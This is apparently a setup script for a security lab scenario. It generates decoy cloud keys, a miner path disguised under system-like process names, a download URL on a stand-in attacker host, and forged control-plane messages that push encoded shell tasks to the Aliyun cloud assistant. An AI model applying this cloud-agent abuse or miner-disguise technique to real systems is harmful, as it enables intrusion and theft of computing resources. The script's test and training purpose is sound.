draw PLACE /home /tmp /var/tmp /opt
draw NAME run trace kthreadx syslogd-helper
letters WORD 7
letters CRON 6
number POOL 3333 9999
number LAST 1 120
letters TASK 9
letters LEFT 6
letters RIGHT 6
number DIGITS 100000 999999
# Keys are drawn: they are nobody's.
KEY=LTAI5t$LEFT$DIGITS${RIGHT^^}
letters LEFT 10
letters RIGHT 10
number DIGITS 1000000 9999999
SECRET=q7$LEFT$DIGITS${RIGHT^^}Z
letters LEFT 8
number DIGITS 100000 999999
OPERATOR=LTAI5t$DIGITS${LEFT^^}W3xY
draw REPOSITORY /srv/app /srv/www/portal /opt/portal
draw SETTINGS deploy.env config/prod.env .env
TASK=t-bj0${TASK}4k
HARMLESS=t-bj02xo${WORD}1
ASSISTANT=/usr/local/share/aliyun-assist/1.0.1.402
CONTROL=/var/lib/range-control
MINER=$PLACE/trace/$NAME
URL=http://$ATTACKER/$WORD/trace.tgz
# From where the cloud was called.
OTHER=198.51.100.$LAST

# What the cloud's control plane sends to the assistant.
send() { # TASK TEXT
    printf '{"code":200,"instanceId":"i-2zeapp%s","stop":[],"run":[{"task":{"type":"RunShellScript","taskID":"%s","commandId":"c-%s",%s}}]}\n' \
        "$NUMBER" "$1" "${1#t-}" "\"commandContent\":\"$(printf %s "$2" | base64 -w0)\",\"workingDirectory\":\"/root\",\"args\":null,\"cron\":null,\"timeOut\":\"60\"" \
        >"$CONTROL/$1.new"
    mv "$CONTROL/$1.new" "$CONTROL/$1.json"
}
ran() { grep -qF "taskId=$1&" "$ASSISTANT/log/aliyun_assist_main.log"; }
